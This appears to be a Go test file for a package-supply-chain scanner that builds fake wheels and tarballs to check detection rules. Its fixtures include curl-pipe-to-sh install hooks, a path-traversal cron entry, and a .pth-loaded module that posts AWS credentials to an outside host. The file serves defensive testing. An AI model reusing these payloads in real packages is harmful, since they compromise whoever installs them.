package pkgscan

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha256"
	"encoding/base64"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/assay-dev/assay/internal/core"
	"github.com/assay-dev/assay/internal/engine"
)

type member struct{ name, body string }

func recordFor(name, body string) string {
	h := sha256.Sum256([]byte(body))
	return fmt.Sprintf("%s,sha256=%s,%d", name, base64.RawURLEncoding.EncodeToString(h[:]), len(body))
}

// buildWheel writes a wheel; record lists the members to put in RECORD
// (nil: all, with correct hashes); tamper replaces a member's body after
// RECORD was computed.
func buildWheel(t testing.TB, name, version string, files []member, omit map[string]bool, tamper map[string]string, metaName string) []byte {
	di := name + "-" + version + ".dist-info"
	if metaName == "" {
		metaName = name
	}
	files = append(files, member{di + "/METADATA", "Metadata-Version: 2.1\nName: " + metaName + "\nVersion: " + version + "\n\n"})
	var rec []string
	for _, f := range files {
		if !omit[f.name] {
			rec = append(rec, recordFor(f.name, f.body))
		}
	}
	rec = append(rec, di+"/RECORD,,")
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	for _, f := range files {
		w, _ := zw.Create(f.name)
		body := f.body
		if s, ok := tamper[f.name]; ok {
			body = s
		}
		w.Write([]byte(body))
	}
	w, _ := zw.Create(di + "/RECORD")
	w.Write([]byte(strings.Join(rec, "\n") + "\n"))
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func buildTgz(t testing.TB, files []member) []byte {
	var b bytes.Buffer
	gz := gzip.NewWriter(&b)
	tw := tar.NewWriter(gz)
	for _, f := range files {
		tw.WriteHeader(&tar.Header{Name: f.name, Mode: 0o644, Size: int64(len(f.body)), Typeflag: tar.TypeReg})
		tw.Write([]byte(f.body))
	}
	tw.Close()
	gz.Close()
	return b.Bytes()
}

// inspect runs the inspect-mode scanner over one file or directory and
// returns "RULE severity member" strings (info findings dropped).
func inspect(t *testing.T, target string) []string {
	t.Helper()
	rep, err := engine.Run(context.Background(), engine.Config{Target: target, Workers: 1,
		Scanners:  []core.Scanner{NewScanner(Options{InspectAll: true})},
		Analyzers: []core.Analyzer{&CapabilityAnalyzer{InspectAll: true}}})
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, f := range rep.Findings {
		if f.Severity == core.SeverityInfo {
			continue
		}
		m := f.Location.Member
		if m == "" {
			m = f.Location.Path
		}
		out = append(out, fmt.Sprintf("%s %s %s", f.RuleID, f.Severity, m))
	}
	sort.Strings(out)
	return out
}

func writeFile(t *testing.T, dir, name string, b []byte) string {
	t.Helper()
	p := filepath.Join(dir, name)
	os.MkdirAll(filepath.Dir(p), 0o755)
	if err := os.WriteFile(p, b, 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

func TestWheelIntegrity(t *testing.T) {
	pkg := []member{{"demo/__init__.py", "VERSION = '1.0'\n"}, {"demo/core.py", "def f():\n    return 1\n"}}
	tests := []struct {
		name  string
		wheel func() []byte
		file  string
		want  []string
	}{
		{"clean wheel (benign twin)", func() []byte { return buildWheel(t, "demo", "1.0", pkg, nil, nil, "") }, "demo-1.0-py3-none-any.whl", nil},
		{"tampered member", func() []byte {
			return buildWheel(t, "demo", "1.0", pkg, nil, map[string]string{"demo/core.py": "def f():\n    return 2\n"}, "")
		}, "demo-1.0-py3-none-any.whl", []string{"ASSAY-PKG-060 high demo/core.py"}},
		{"pth missing from RECORD", func() []byte {
			return buildWheel(t, "demo", "1.0", append(append([]member{}, pkg...), member{"demo_init.pth", "import demo\n"}), map[string]bool{"demo_init.pth": true}, nil, "")
		}, "demo-1.0-py3-none-any.whl", []string{"ASSAY-PKG-001 low demo_init.pth", "ASSAY-PKG-061 high demo_init.pth"}},
		{"metadata name differs", func() []byte { return buildWheel(t, "demo", "1.0", pkg, nil, nil, "requests") }, "demo-1.0-py3-none-any.whl", []string{"ASSAY-PKG-062 high demo-1.0.dist-info/METADATA"}},
		{"typosquat wheel", func() []byte { return buildWheel(t, "deepseeek", "0.0.8", pkg, nil, nil, "") }, "deepseeek-0.0.8-py3-none-any.whl", []string{"ASSAY-PKG-070 high deepseeek-0.0.8-py3-none-any.whl"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			p := writeFile(t, dir, tc.file, tc.wheel())
			got := inspect(t, p)
			if d := cmp.Diff(tc.want, got); d != "" {
				t.Errorf("(-want +got)\n%s", d)
			}
		})
	}
}

func TestArtifacts(t *testing.T) {
	dir := t.TempDir()
	npm := writeFile(t, dir, "evil-1.0.0.tgz", buildTgz(t, []member{
		{"package/package.json", `{"name":"evil","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}`},
		{"package/setup.js", "require('child_process').execSync('curl -s https://x.example.net/i | sh');\n"},
		{"../../../etc/cron.d/x", "* * * * * root true\n"},
	}))
	got := inspect(t, npm)
	want := []string{"ASSAY-PKG-004 low package/package.json", "ASSAY-PKG-022 critical package/setup.js", "ASSAY-PKG-080 high ../../../etc/cron.d/x"}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("npm tarball (-want +got)\n%s", d)
	}
	// benign twin: the same layout with a native build
	ok := writeFile(t, dir, "good-1.0.0.tgz", buildTgz(t, []member{
		{"package/package.json", `{"name":"good","version":"1.0.0","scripts":{"install":"node-gyp rebuild"}}`},
		{"package/index.js", "module.exports = require('./build/Release/addon.node');\n"},
	}))
	if got := inspect(t, ok); len(got) != 0 {
		t.Errorf("benign npm tarball: %v", got)
	}
	sdist := writeFile(t, dir, "demo-1.0.tar.gz", buildTgz(t, []member{
		{"demo-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n\n"},
		{"demo-1.0/setup.py", "import os\nfrom setuptools import setup\nos.system('curl http://45.148.10.212/x | sh')\nsetup(name='demo')\n"},
	}))
	if got, want := inspect(t, sdist), []string{"ASSAY-PKG-022 critical demo-1.0/setup.py"}; !cmp.Equal(want, got) {
		t.Errorf("sdist: %v", got)
	}
}

func TestCorruptArtifact(t *testing.T) {
	dir := t.TempDir()
	w := buildWheel(t, "demo", "1.0", []member{{"demo/__init__.py", "x = 1\n"}}, nil, nil, "")
	p := writeFile(t, dir, "demo-1.0-py3-none-any.whl", w[:len(w)/2])
	rep, err := engine.Run(context.Background(), engine.Config{Target: p, Scanners: []core.Scanner{NewScanner(Options{InspectAll: true})}})
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Errors) == 0 || !strings.Contains(rep.Errors[0].Reason, "archive") {
		t.Fatalf("want an error naming the archive, got %+v", rep.Errors)
	}
}

func TestBadSources(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "pkg/binary.py", append([]byte("import os\x00\x01\x02"), bytes.Repeat([]byte{0xff}, 100)...))
	writeFile(t, dir, "pkg/latin1.py", []byte("# caf\xe9\nimport os\nos.system('curl http://45.148.10.212/x | sh')\n"))
	deep := strings.Repeat("(", 5000) + "exec(x)" + strings.Repeat(")", 5000) + "\n"
	writeFile(t, dir, "pkg/deep.py", []byte("import subprocess\n"+deep))
	writeFile(t, dir, "pkg/deep.js", []byte("require('child_process');\n"+strings.Repeat("[", 20000)+strings.Repeat("]", 20000)))
	rep, err := engine.Run(context.Background(), engine.Config{Target: dir, Scanners: []core.Scanner{NewScanner(Options{InspectAll: true})}})
	if err != nil {
		t.Fatal(err)
	}
	reasons := map[string]string{}
	for _, e := range rep.Errors {
		reasons[e.Path] = e.Reason
	}
	if !strings.Contains(reasons["pkg/binary.py"], "binary content") {
		t.Errorf("binary .py: %q", reasons["pkg/binary.py"])
	}
	if !strings.Contains(reasons["pkg/deep.py"], "deeper than") {
		t.Errorf("deep .py: %q", reasons["pkg/deep.py"])
	}
	found := false
	for _, f := range rep.Findings {
		found = found || (f.Location.Path == "pkg/latin1.py" && f.RuleID == RuleDownloadExec.ID)
	}
	if !found {
		t.Errorf("non-UTF-8 source not analysed")
	}
}

func TestTyposquat(t *testing.T) {
	for name, want := range map[string]string{
		"deepseeek": "deepseek", "torchtriton": "pytorch-triton", "transfromers": "transformers", "scikitlearn": "scikit-learn",
		"0penai": "openai", "langchian": "langchain", "hugging-face-hub": "huggingface-hub",
		// benign twins
		"requests": "", "openapi": "", "torch": "", "numba": "", "dataset": "", "mypackage": "", "six": "", "litellm": "",
	} {
		if got, _ := typosquatOf(name, "pypi"); got != want {
			t.Errorf("typosquatOf(%q) = %q, want %q", name, got, want)
		}
	}
}

func TestPthOwnership(t *testing.T) {
	dir := t.TempDir()
	sp := filepath.Join(dir, "lib", "python3.12", "site-packages")
	writeFile(t, sp, "owned.pth", []byte("import owned_hook\n"))
	writeFile(t, sp, "stray.pth", []byte("import stray_hook\n"))
	writeFile(t, sp, "owned-1.0.dist-info/RECORD", []byte("owned.pth,,\n"))
	rep, err := engine.Run(context.Background(), engine.Config{Target: dir, Scanners: Scanners()})
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, f := range rep.Findings {
		if f.RuleID == RuleRecordMissing.ID {
			got = append(got, filepath.Base(f.Location.Path))
		}
	}
	if d := cmp.Diff([]string{"stray.pth"}, got); d != "" {
		t.Errorf("(-want +got)\n%s", d)
	}
}

// TestProjectScope: in a project scan the project's own code is not ours;
// installed trees and .pth files anywhere are.
func TestProjectScope(t *testing.T) {
	s := NewScanner(Options{})
	for p, want := range map[string]bool{
		"src/app.py": false, "scripts/deploy.js": false, "setup.py": false,
		".venv/lib/python3.12/site-packages/requests/api.py":        true,
		"web/node_modules/left-pad/index.js":                        true,
		"web/node_modules/left-pad/package.json":                    true,
		"anything/evil.pth":                                         true,
		"tools/sitecustomize.py":                                    true,
		".venv/lib/python3.12/site-packages/x-1.0.dist-info/RECORD": true,
	} {
		if got := s.FileRequired(core.FileInfo{Path: p, Head: []byte("import os\n")}); got != want {
			t.Errorf("FileRequired(%q) = %v, want %v", p, got, want)
		}
	}
	// a PyTorch model saved as .pth is the model scanner's, not ours
	if s.FileRequired(core.FileInfo{Path: "model.pth", Head: []byte("PK\x03\x04....")}) {
		t.Errorf("claimed a zip .pth model")
	}
}

func TestDiffGainsCapabilities(t *testing.T) {
	dir := t.TempDir()
	oldW := writeFile(t, dir, "demo-1.0-py3-none-any.whl", buildWheel(t, "demo", "1.0", []member{{"demo/__init__.py", "def f():\n    return 1\n"}}, nil, nil, ""))
	newW := writeFile(t, dir, "demo-1.1-py3-none-any.whl", buildWheel(t, "demo", "1.1", []member{
		{"demo/__init__.py", "def f():\n    return 1\n"},
		{"demo/_t.py", "import os, requests\nrequests.post('https://models.litellm.cloud/', data=open(os.path.expanduser('~/.aws/credentials')).read())\n"},
		{"demo_init.pth", "import demo._t\n"},
	}, nil, nil, ""))
	ctx := context.Background()
	o, err := TakeSnapshot(ctx, oldW, DefaultLimitsForTest())
	if err != nil {
		t.Fatal(err)
	}
	n, err := TakeSnapshot(ctx, newW, DefaultLimitsForTest())
	if err != nil {
		t.Fatal(err)
	}
	var gained []string
	for _, f := range Diff(o, n) {
		if f.RuleID == RuleNewCapability.ID {
			gained = append(gained, f.Severity.String()+" "+strings.SplitN(f.Message, ":", 2)[0])
		}
	}
	sort.Strings(gained)
	want := []string{"high contacts hosts the old release never did", "high new capability \"install-time\"", "high new capability \"secrets\"", "medium new capability \"network\""}
	if d := cmp.Diff(want, gained); d != "" {
		t.Errorf("(-want +got)\n%s", d)
	}
	// benign twin: a release that only changes a function body gains nothing
	same := writeFile(t, dir, "demo-1.2-py3-none-any.whl", buildWheel(t, "demo", "1.2", []member{{"demo/__init__.py", "def f():\n    return 2\n"}}, nil, nil, ""))
	s, _ := TakeSnapshot(ctx, same, DefaultLimitsForTest())
	for _, f := range Diff(o, s) {
		if f.Severity > core.SeverityInfo {
			t.Errorf("benign release diff: %s %s", f.RuleID, f.Message)
		}
	}
}
